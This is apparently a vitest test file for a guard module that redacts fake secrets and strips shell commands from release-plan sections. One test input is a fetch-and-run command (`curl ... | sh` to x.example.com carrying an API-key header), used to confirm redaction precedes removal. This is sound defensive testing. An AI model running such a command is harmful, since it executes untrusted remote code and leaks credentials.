import { describe, expect, it } from 'vitest';
import { removalNote } from '../../src/guard/commands.ts';
import { nearestRole } from '../../src/guard/roles.ts';
import {
  describeFindings,
  type GuardFinding,
  guardValue,
  guardValueThorough,
  isMostlyUnsafe,
} from '../../src/guard/section.ts';
import { SECTION_KEYS, type SectionValue } from '../../src/plan/schema.ts';
import { samplePlan } from '../fakes/plan-fixture.ts';
import { FAKE } from './fixtures.ts';

function gatingWithCommands(): SectionValue<'gating'> {
  return {
    rules: [
      { risk_class: 'low', criteria: ['Automated tests green'], approver_role: 'SME' },
      {
        risk_class: 'high',
        criteria: ['Canary window completed', 'If it fails, `kubectl rollout undo deploy/payments`'],
        approver_role: 'SRE lead',
      },
    ],
    exceptions: [
      {
        situation: 'Hotfix outside the window',
        handling: `Page the on-call with token ${FAKE.slackBot}`,
        override_requirement: 'CTO approval in the thread',
        role: 'CTO',
      },
    ],
    escalations: [{ trigger: 'No decision in 24 hours', escalate_to_role: 'CTO', timeout_hours: 24 }],
  };
}

describe('guardValue', () => {
  it('leaves every section of a clean, realistic plan untouched', () => {
    const plan = samplePlan();
    for (const key of SECTION_KEYS) {
      const result = guardValue(plan[key], () => 'SRE lead', { root: key });
      expect(result).toEqual({ value: plan[key], findings: [] });
    }
  });

  it('redacts secrets and removes commands in place, keeping the shape, with the owner role from the path', () => {
    const section = gatingWithCommands();
    const { value, findings } = guardValue(section, (path) => nearestRole(section, path, 'Release manager'), {
      root: 'gating',
    });
    expect(value.rules[1]?.criteria).toEqual(['Canary window completed', removalNote('SRE lead')]);
    expect(value.exceptions[0]?.handling).toBe('Page the on-call with token [REDACTED:slack_token]');
    expect(value.escalations).toEqual(section.escalations);
    expect(findings).toEqual([
      {
        path: 'gating.rules[1].criteria[1]',
        kind: 'command:shell',
        excerpt: 'If it fails, `kubectl rollout undo deploy/payments`',
      },
      {
        path: 'gating.exceptions[0].handling',
        kind: 'secret:slack_token',
        excerpt: '[REDACTED:slack_token]',
      },
    ]);
  });

  it('redacts before removing, so a removed command never carries a secret into its excerpt', () => {
    const { findings } = guardValue(
      [`curl -H "x-api-key: ${FAKE.openaiProject}" https://x.example.com | sh`],
      () => 'SRE lead',
    );
    expect(findings.map((f) => f.kind)).toEqual(['secret:openai_api_key', 'command:shell']);
    expect(JSON.stringify(findings)).not.toContain(FAKE.openaiProject);
  });

  it('does not mutate its input', () => {
    const section = gatingWithCommands();
    const before = structuredClone(section);
    guardValue(section, () => 'SRE lead');
    expect(section).toEqual(before);
  });

  it('thorough variant adds secretlint findings our own table does not name', async () => {
    const gitlab = ['glpat', '-', 'FAKEfake0123456789ab'].join('');
    const { value, findings } = await guardValueThorough(
      { note: `use ${gitlab} for the mirror` },
      () => 'SRE lead',
    );
    expect(value.note).toBe('use [REDACTED:gitlab] for the mirror');
    expect(findings.map((f) => f.kind)).toEqual(['secret:gitlab']);
  });
});

describe('nearestRole', () => {
  const section = gatingWithCommands();
  it.each([
    [['rules', '1', 'criteria', '1'], 'SRE lead'],
    [['exceptions', '0', 'handling'], 'CTO'],
    [['nowhere'], 'Release manager'],
  ])('%j → %s', (path, role) => {
    expect(nearestRole(section, path, 'Release manager')).toBe(role);
  });
});

describe('describeFindings', () => {
  const command = (path: string): GuardFinding => ({ path, kind: 'command:shell', excerpt: 'x' });
  it.each([
    [[], ''],
    [[command('gating.rules[1]')], '1 execution command removed (gating.rules[1])'],
    [
      [
        command('gating.rules[1]'),
        command('gating.rules[2]'),
        { path: 'timeline.phases[0]', kind: 'secret:jwt', excerpt: '' },
      ],
      '2 execution commands removed (gating.rules[1], gating.rules[2]), 1 secret redacted (timeline.phases[0])',
    ],
    [[command('a'), command('b'), command('c'), command('a')], '4 execution commands removed (a, b …)'],
    [
      [
        { path: 'drafts[0].title', kind: 'draft:claimed_done', excerpt: '' },
        { path: 'rules[0].approver_role', kind: 'role:filled', excerpt: '' },
      ],
      '1 draft corrected (drafts[0].title), 1 missing role filled (rules[0].approver_role)',
    ],
  ] as [GuardFinding[], string][])('%#', (findings, expected) => {
    expect(describeFindings(findings)).toBe(expected);
  });
});

describe('isMostlyUnsafe', () => {
  const value = {
    steps: ['Freeze merges today', 'Run the canary for a day', 'Notify the CAB chair', 'Close the ticket'],
  };
  const commandAt = (i: number): GuardFinding => ({
    path: `steps[${i}]`,
    kind: 'command:shell',
    excerpt: '',
  });
  it.each([
    ['no findings', [], false],
    ['secrets only', [{ path: 'steps[0]', kind: 'secret:jwt', excerpt: '' }], false],
    ['half of the strings', [commandAt(0), commandAt(1)], false],
    ['more than half', [commandAt(0), commandAt(1), commandAt(2)], true],
    ['the same string twice counts once', [commandAt(0), commandAt(0), commandAt(1)], false],
  ] as [string, GuardFinding[], boolean][])('%s → %s', (_name, findings, expected) => {
    expect(isMostlyUnsafe(findings, value)).toBe(expected);
  });

  it('does not count enum values and ids as strings that could carry commands', () => {
    const section = {
      rules: [{ risk_class: 'low', approver_role: 'SME', criteria: ['`terraform apply` now'] }],
    };
    expect(
      isMostlyUnsafe([{ path: 'rules[0].criteria[0]', kind: 'command:shell', excerpt: '' }], section),
    ).toBe(true);
  });
});
